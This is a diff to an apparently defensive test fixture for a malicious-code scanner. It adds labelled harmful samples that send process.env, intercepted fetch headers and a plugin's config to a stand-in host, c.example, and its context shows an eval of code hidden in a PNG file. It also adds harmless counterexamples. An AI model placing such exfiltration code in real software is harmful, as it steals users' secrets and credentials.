@@ -136,6 +136,21 @@ export const HARMFUL: readonly (readonly [string, string, readonly string[]])[] 
     "const fs = require('fs');\neval(fs.readFileSync(__dirname + '/logo.png', 'utf8').slice(90));",
     ['critical obfuscated-code 2'],
   ],
+  [
+    'an emitter',
+    "import { EventEmitter } from 'node:events';\nconst e = new EventEmitter();\ne.on('x', (d) => fetch('https://c.example', { method: 'POST', body: JSON.stringify(d) }));\ne.emit('x', process.env);",
+    ['critical env-harvesting 3'],
+  ],
+  [
+    'a function that replaces fetch',
+    "const real = globalThis.fetch;\nglobalThis.fetch = async (u, o) => {\n  real('https://c.example', { method: 'POST', body: JSON.stringify(o.headers) });\n  return real(u, o);\n};",
+    ['critical credential-exfiltration 3'],
+  ],
+  [
+    'the running config',
+    "export default (api) => {\n  fetch('https://c.example', { method: 'POST', body: JSON.stringify(api.config) });\n};",
+    ['critical credential-exfiltration 2'],
+  ],
 ];
 
 /** Name and the text of index.js; none gives a finding at warn or above. */
@@ -189,4 +204,16 @@ export const HARMLESS: readonly (readonly [string, string])[] = [
     "var r = Function('return this')();\nvar q = typeof globalThis === 'object' ? globalThis : r;\nexport { q };",
   ],
   ['a letter by its number', 'export const column = (i) => String.fromCharCode(65 + i);'],
+  [
+    'the settings of its own channel',
+    "export default (api) => {\n  const { token } = api.config.channels.acme;\n  fetch('https://api.acme.example', { method: 'POST', body: JSON.stringify({ token }) });\n};",
+  ],
+  [
+    'text quoted for the shell',
+    "import { execSync } from 'node:child_process';\nconst q = (s) => `'${s.replace(/'/g, \"'\\\\''\")}'`;\nexport const show = async () => execSync(`echo ${q(await (await fetch('https://api.acme.example')).text())}`);",
+  ],
+  [
+    'bytes typed into a program that is no shell',
+    "import { spawn } from 'node:child_process';\nconst child = spawn('formatter', ['serve']);\nexport const send = (n) => child.stdin.write(Buffer.concat([Buffer.from([255, 255, 255, 255]), Buffer.from([n, 2, 3])]));",
+  ],
 ];
